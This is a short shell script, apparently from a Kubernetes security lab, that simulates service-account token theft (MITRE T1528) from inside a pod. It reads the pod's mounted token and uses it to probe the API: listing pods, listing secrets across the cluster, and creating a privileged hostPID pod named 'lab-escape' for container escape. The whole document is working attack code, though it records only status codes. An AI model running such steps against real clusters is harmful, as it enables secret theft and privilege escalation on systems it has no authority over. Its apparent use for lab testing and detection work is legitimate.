#!/bin/sh
# Lab attack scenario: sa-token-api (T1528). Runs inside a lab pod via pods/exec (sh -s, script on stdin).
SA=/var/run/secrets/kubernetes.io/serviceaccount
TOKEN=$(cat $SA/token)
NS=$(cat $SA/namespace)
API=https://$KUBERNETES_SERVICE_HOST:$KUBERNETES_SERVICE_PORT
curl -sS -m 5 --cacert $SA/ca.crt -H "Authorization: Bearer $TOKEN" $API/api/v1/namespaces/$NS/pods -o /dev/null -w "list pods: %{http_code}\n"
curl -sS -m 5 --cacert $SA/ca.crt -H "Authorization: Bearer $TOKEN" $API/api/v1/secrets -o /dev/null -w "list secrets: %{http_code}\n"
curl -sS -m 5 --cacert $SA/ca.crt -H "Authorization: Bearer $TOKEN" -H 'Content-Type: application/json' -X POST $API/api/v1/namespaces/$NS/pods \
  -d '{"apiVersion":"v1","kind":"Pod","metadata":{"name":"lab-escape"},"spec":{"hostPID":true,"containers":[{"name":"x","image":"busybox","securityContext":{"privileged":true}}]}}' \
  -o /dev/null -w "create privileged pod: %{http_code}\n"
